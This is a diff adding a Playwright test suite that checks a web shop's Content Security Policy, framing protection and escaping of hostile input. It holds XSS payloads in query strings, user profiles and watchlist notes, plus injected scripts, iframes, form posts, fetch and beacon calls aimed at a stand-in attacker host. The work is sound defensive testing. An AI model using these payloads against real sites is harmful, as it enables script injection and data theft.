@@ -1,0 +1,184 @@
+import { once } from 'node:events';
+import { writeFile } from 'node:fs/promises';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { join } from 'node:path';
+import type { Page } from 'playwright';
+import { givenCaller } from './support/caller.ts';
+import { openHostileShop } from './support/hostile-shop.ts';
+import { sillage } from './support/processes.ts';
+import { settingsIn } from './support/world.ts';
+import { describe, expect, test } from './support/world-test.ts';
+
+const MARKUP = `<img src=x onerror="globalThis.ran=1"><script>globalThis.ran=1</script>"'\u202e`;
+
+interface Watched {
+  ran?: number;
+  violations?: string[];
+}
+
+/** Collects what the policy of a page blocks, from the first byte on. */
+async function watchPolicy(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    const watched = globalThis as Watched;
+    watched.violations = [];
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) =>
+      watched.violations?.push(`${violatedDirective} ${blockedURI}`),
+    );
+  });
+}
+
+const violationsOf = (page: Page) => page.evaluate(() => (globalThis as Watched).violations ?? ['not watched']);
+const hasRun = (page: Page) => page.evaluate(() => (globalThis as Watched).ran === 1);
+
+const forVisitors = [
+  '/',
+  '/login',
+  '/register',
+  '/verify-email',
+  '/forgot-password',
+  '/reset-password',
+  '/explore',
+  '/auth/callback?status=success',
+  '/nowhere',
+  `/explore?keyword=${encodeURIComponent(MARKUP)}&brand=${encodeURIComponent(MARKUP)}`,
+  `/auth/callback?status=error&message=${encodeURIComponent(MARKUP)}`,
+  `/auth/callback?status=error&error=${encodeURIComponent(MARKUP)}`,
+  `/reset-password?token=${encodeURIComponent(MARKUP)}`,
+  `/verify-email?token=${encodeURIComponent(MARKUP)}&email=${encodeURIComponent(MARKUP)}`,
+  `/shared/${encodeURIComponent(MARKUP)}`,
+  `/fragrances/${encodeURIComponent(MARKUP)}`,
+  `/${encodeURIComponent(MARKUP)}?${encodeURIComponent(MARKUP)}#${encodeURIComponent(MARKUP)}`,
+  '/login?returnTo=javascript:globalThis.ran=1&next=//evil.example',
+  '/api/docs',
+];
+const forUsers = ['/dashboard', '/import', '/quiz', '/recommendations', '/account', '/notifications', '/settings'];
+
+describe('the policy of every page', () => {
+  test('is violated by nothing of ours, and lets no text of an address, a user or a catalogue run', async ({
+    world,
+    origin,
+  }) => {
+    const shop = await openHostileShop();
+    world.closing(() => shop.close());
+    const file = join(world.folder, 'hostile.json');
+    await writeFile(file, JSON.stringify(shop.catalogue));
+    await sillage(['import', file], settingsIn(world));
+    const amber = await givenCaller(world, origin, 'amber');
+    const page = await world.newPage();
+    const dialogs: string[] = [];
+    page.on('dialog', (dialog) => {
+      dialogs.push(dialog.message());
+      void dialog.dismiss();
+    });
+    await watchPolicy(page);
+    const problems: string[] = [];
+    const visit = async (path: string) => {
+      await page.goto(origin + path);
+      await page.waitForLoadState('networkidle');
+      // The shop of this test has no TLS, and the policy shows pictures over https alone.
+      const violations = (await violationsOf(page)).filter((each) => !/^img-src http:\S+\/picture\/\w+$/.test(each));
+      problems.push(...violations.map((violation) => `${path}: ${violation}`));
+      if (await hasRun(page)) problems.push(`${path}: a script ran`);
+      if (new URL(page.url()).origin !== origin) problems.push(`${path}: left for ${page.url()}`);
+    };
+    for (const path of forVisitors) await visit(path);
+    const cookies = amber
+      .cookie()
+      .split('; ')
+      .map((cookie) => cookie.split('='));
+    await page.context().addCookies(cookies.map(([name = '', value = '']) => ({ name, value, url: origin })));
+    await page.goto(origin);
+    const id = await fillWithMarkup(page);
+    for (const path of [...forUsers, `/fragrances/${id}`, '/explore?keyword=onclick']) await visit(path);
+    const shared = await page.evaluate(async () => {
+      const user = await (await fetch('/api/users/current')).json();
+      const answer = await fetch(`/api/watchlist/${user.data.id}/share`);
+      return (await answer.json()).data.share.url as string;
+    });
+    await visit(new URL(shared).pathname);
+    expect(problems).toEqual([]);
+    expect(dialogs).toEqual([]);
+  });
+
+  test('blocks what an injection would try', async ({ world, origin }) => {
+    const page = await world.newPage();
+    await watchPolicy(page);
+    const loaded: string[] = [];
+    page.on('requestfinished', (request) => loaded.push(request.url()));
+    for (const path of ['/', '/login', '/shared/x', '/api/docs', '/unsubscribe/x']) {
+      await page.goto(origin + path);
+      await page.evaluate(async () => {
+        const add = (name: string, attributes: Record<string, string>, text = '') => {
+          const element = document.createElement(name);
+          for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
+          element.textContent = text;
+          document.body.append(element);
+          return element;
+        };
+        add('script', {}, 'globalThis.ran=1');
+        add('script', { src: 'https://evil.example/x.js' });
+        add('script', { src: 'data:text/javascript,globalThis.ran=1' });
+        add('img', { src: 'x:', onerror: 'globalThis.ran=1' });
+        add('iframe', { srcdoc: '<script>parent.ran=1</script>' });
+        add('iframe', { src: 'https://evil.example/frame' });
+        add('object', { data: 'https://evil.example/object' });
+        add('base', { href: 'https://evil.example/' });
+        add('link', { rel: 'stylesheet', href: 'https://evil.example/x.css' });
+        (add('a', { href: 'javascript:globalThis.ran=1' }) as HTMLAnchorElement).click();
+        (add('form', { action: 'https://evil.example/form', method: 'post' }) as HTMLFormElement).submit();
+        await fetch('https://evil.example/fetch').catch(() => null);
+        navigator.sendBeacon('https://evil.example/beacon');
+        await new Promise((resolve) => setTimeout(resolve, 200));
+      });
+      expect([path, await hasRun(page)]).toEqual([path, false]);
+      expect((await violationsOf(page)).length).toBeGreaterThan(7);
+      expect(await page.evaluate(() => document.baseURI)).toBe(page.url());
+    }
+    expect(loaded.filter((url) => !url.startsWith(origin))).toEqual([]);
+  });
+
+  test('lets no other site frame a page or keep a hold of its window', async ({ world, origin }) => {
+    const page = await world.newPage();
+    const paths = ['/', '/dashboard', '/api/docs', '/unsubscribe/x', '/shared/x', '/login'];
+    const frames = paths.map((path) => `<iframe src="${origin}${path}"></iframe>`).join('');
+    const other = createServer((_, response) => {
+      response.setHeader('content-type', 'text/html').end(`<title>other</title>${frames}`);
+    }).listen(0, '127.0.0.1');
+    await once(other, 'listening');
+    world.closing(async () => other.close());
+    // Another host name of this machine is another site.
+    await page.goto(`http://localhost:${(other.address() as AddressInfo).port}/`);
+    await page.waitForLoadState('networkidle');
+    const shown = page.frames().filter((frame) => frame.url().startsWith(origin));
+    expect(shown.map((frame) => frame.url())).toEqual([]);
+    const [popup] = await Promise.all([
+      page.waitForEvent('popup'),
+      page.evaluate((url) => void Object.assign(globalThis, { opened: window.open(url) }), `${origin}/login`),
+    ]);
+    await popup.waitForLoadState('load');
+    expect(await popup.evaluate(() => window.opener)).toBeNull();
+    expect(await page.evaluate(() => (globalThis as unknown as { opened: Window }).opened.closed)).toBe(true);
+  });
+});
+
+async function fillWithMarkup(page: Page): Promise<number> {
+  return page.evaluate(async (text) => {
+    const call = async (method: string, path: string, body?: object) => {
+      const headers = { 'content-type': 'application/json' };
+      const answer = await fetch(path, { method, ...(body && { headers, body: JSON.stringify(body) }) });
+      const json = await answer.json();
+      if (!answer.ok) throw new Error(`${method} ${path}: ${JSON.stringify(json)}`);
+      return json.data;
+    };
+    const { id: userId, email } = await call('GET', '/api/users/current');
+    const short = text.slice(0, 70);
+    await call('PUT', `/api/users/${userId}/profile`, { email, firstName: short, lastName: short });
+    const { content } = await call('GET', '/api/fragrances/filter?keyword=onclick&size=50');
+    for (const { id } of content) {
+      await call('POST', '/api/watchlist/add', { userId, fragranceId: id, notes: text });
+    }
+    await call('PUT', `/api/watchlist/${userId}/share`, { title: short, withNotes: true });
+    return content[0].id as number;
+  }, MARKUP);
+}
